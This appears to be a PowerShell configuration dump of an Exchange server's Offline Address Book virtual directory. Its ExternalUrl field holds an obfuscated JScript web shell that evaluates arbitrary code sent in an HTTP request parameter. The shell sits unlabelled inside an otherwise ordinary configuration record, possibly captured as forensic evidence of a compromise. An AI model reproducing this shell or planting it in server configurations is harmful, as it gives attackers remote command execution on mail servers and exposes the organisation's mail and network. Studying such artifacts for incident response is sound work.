Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : \Default Offline Address Book
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://EX02.contoso.local/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         :
ExtendedProtectionSPNList       :
AdminDisplayVersion             : Version 15.1 (Build 2176.2)
Server                          : EX02
InternalUrl                     : https://ex02.contoso.local/OAB
InternalAuthenticationMethods   : OAuth
                                  WindowsIntegrated
ExternalUrl                     : http://f/<script language="JScript" runat="server">var _0x4f1a=['Item','orange','unsafe','klk'];(function(_0x2d8f05,_0x4b81bb){var _0x4d6d5a=function(_0x5a2f1c){while(--_0x5a2f1c){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d6d5a(++_0x4b81bb);}(_0x4f1a,0x1b3));var _0x1c2d=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;var _0x4d6d5a=_0x4f1a[_0x2d8f05];return _0x4d6d5a;};function Page_Load(){var _0x3e1f=_0x1c2d('0x3');eval(Request[_0x3e1f],_0x1c2d('0x1'));}</script>
ExternalAuthenticationMethods   : OAuth
                                  WindowsIntegrated
AdminDisplayName                :
ExchangeVersion                 : 0.10 (14.0.100.0)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EX02,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local
Identity                        : EX02\OAB (Default Web Site)
Guid                            : d1e2f3a4-b5c6-4d7e-8f90-a1b2c3d4e5f6
ObjectCategory                  : contoso.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : top
                                  msExchVirtualDirectory
                                  msExchOABVirtualDirectory
WhenChanged                     : 3/3/2021 5:21:10 AM
WhenCreated                     : 11/12/2020 2:14:33 PM
WhenChangedUTC                  : 3/3/2021 1:21:10 PM
WhenCreatedUTC                  : 11/12/2020 10:14:33 PM
OrganizationId                  :
Id                              : EX02\OAB (Default Web Site)
OriginatingServer               : DC01.contoso.local
IsValid                         : True
ObjectState                     : Unchanged
